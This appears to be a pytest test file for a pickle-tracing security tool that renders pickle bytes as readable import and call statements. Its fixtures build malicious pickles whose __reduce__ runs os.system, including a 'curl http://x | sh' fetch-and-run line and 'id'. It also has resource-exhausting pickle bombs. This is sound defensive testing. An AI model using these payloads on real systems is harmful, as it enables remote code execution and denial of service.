"""The trace says what the facts say, in order, for any program and within bounds."""

from __future__ import annotations

import collections
import os
import pickle
import re
from pathlib import Path

import pytest

from build import pickles as p
from build.attacks import DANGEROUS, ROADS, name_of, whole
from build.opcode_programs import Program
from weighbridge.core.facts import Call, Import
from weighbridge.core.limits import Budget, Limits
from weighbridge.core.reader import MemorySource, Reader
from weighbridge.pickle.machine import interpret
from weighbridge.pickle.trace import LINES, WIDTH, Trace, traced


def lines(raw: bytes, most: int = LINES) -> list[str]:
    trace = Trace(most)
    traced(Reader(MemorySource(raw)), [0], Limits(), trace)
    assert all(len(statement.text) <= WIDTH for statement in trace.statements)
    return [statement.text for statement in trace.statements]


class Runs:
    def __reduce__(self) -> object:
        return (os.system, ("echo inert",))


def test_a_pickle_reads_like_the_program_that_it_is() -> None:
    value = {"w": [1, 2, 3], "bad": Runs(), "o": collections.OrderedDict(a=1), "t": (1,), "text": "x" * 500}
    assert lines(pickle.dumps(value, 4)) == [
        "import posix.system",
        "_0 = posix.system('echo inert')",
        "import collections.OrderedDict",
        "_1 = collections.OrderedDict()",
        "_1.update({'a': 1})",
        f"return {{'w': [1, 2, 3], 'bad': _0, 'o': _1, 't': (1,), 'text': '{'x' * 120}'… (500 in all)}}",
    ]


def test_the_page_on_traces_shows_what_is_written() -> None:
    class Fetches:
        def __reduce__(self) -> object:
            return (os.system, ("curl http://x | sh",))

    value = {"w": [1, 2, 3], "e": Fetches(), "o": collections.OrderedDict(a=1)}
    trace = Trace()
    traced(Reader(MemorySource(pickle.dumps(value, 4))), [0], Limits(), trace)
    shown = "\n".join(f"{statement.offset:>10}  {statement.text}" for statement in trace.statements)
    page = (Path(__file__).parents[2] / "docs" / "trace.md").read_text(encoding="utf-8")
    assert f"```\n# model.pkl\n{shown}\n```" in page


def test_what_is_thrown_away_still_shows() -> None:
    assert lines(p.call("os", "system", p.text("id")) + b"0N.") == [
        "import os.system",
        "_0 = os.system('id')",
        "return None",
    ]


def test_states_items_and_new_objects() -> None:
    raw = p.global_("m", "C") + b")\x81}" + p.text("k") + b"K\x01sb" + p.text("a") + b"a."
    assert lines(raw) == [
        "import m.C",
        "_0 = m.C.__new__(m.C)",
        "_0.__setstate__({'k': 1})",
        "_0.extend(['a'])",
        "return _0",
    ]


def test_where_a_pickle_breaks_is_said() -> None:
    assert lines(p.call("os", "system", p.text("id")) + b"\xff")[-1] == "# the pickle ends here: 0xff is no opcode"


def test_control_characters_do_not_reach_the_terminal() -> None:
    assert "\x1b" not in "".join(lines(p.call("os", "system", p.text("\x1b[2J\u202e")) + b"."))


def told(raw: bytes) -> tuple[set[str], set[str]]:
    """The imports and what is called, as the trace has them."""
    trace = lines(raw)
    imports = {line.removeprefix("import ").partition("  #")[0] for line in trace if line.startswith("import ")}
    calls = {match[1] for line in trace if (match := re.match(r"(?:_\d+ = )?([\w.]+?)(?:\.__new__)?\(", line))}
    return imports, calls


@pytest.mark.parametrize("road", ROADS)
def test_every_road_shows(road: str) -> None:
    for gadget in DANGEROUS[::9]:
        check(whole(ROADS[road](*name_of(gadget))))


def test_any_program_shows() -> None:
    for number in range(1500):
        check(Program(50_000 + number).whole())


def check(raw: bytes) -> None:
    facts = interpret(Reader(MemorySource(raw)), 0, Budget(Limits(), len(raw))).facts
    imports, calls = told(raw)
    plain = re.compile(r"[\w.]{1,150}")
    assert {fact.name for fact in facts if isinstance(fact, Import) and plain.fullmatch(fact.name)} <= imports
    named = {fact.callable for fact in facts if isinstance(fact, Call) and fact.mode in ("call", "new")}
    assert {name for name in named if plain.fullmatch(name) and "." in name} <= calls


def doubled(times: int) -> bytes:
    return b"\x80\x04)\x94" + b"".join(b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86\x94" for n in range(times))


BOMBS = {
    "a doubling tuple": doubled(60) + p.global_("m", "f") + b"h\x3c\x85R.",
    "lists in lists": b"(" + b"]" * 200_000 + b"t.",
    "a long number": b"\x8b" + (3_000_000).to_bytes(4, "little") + b"\x7f" * 3_000_000 + p.global_("m", "f") + b"(t.",
    "many calls": b"\x80\x04" + (p.global_("m", "f") + b")R0") * 60_000 + b"N.",
    "a list in itself": b"\x80\x04]\x94h\x00a" + p.global_("m", "f") + b"h\x00\x85R.",
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_bombs_are_cut(bomb: str) -> None:
    assert len("".join(lines(BOMBS[bomb]))) < LINES * 60


def test_lines_that_are_left_out_are_counted() -> None:
    trace = Trace(10)
    raw = (p.global_("m", "f") + b")R0") * 50 + b"N."
    traced(Reader(MemorySource(raw)), [0], Limits(), trace)
    assert (len(trace.statements), trace.more) == (10, 42)
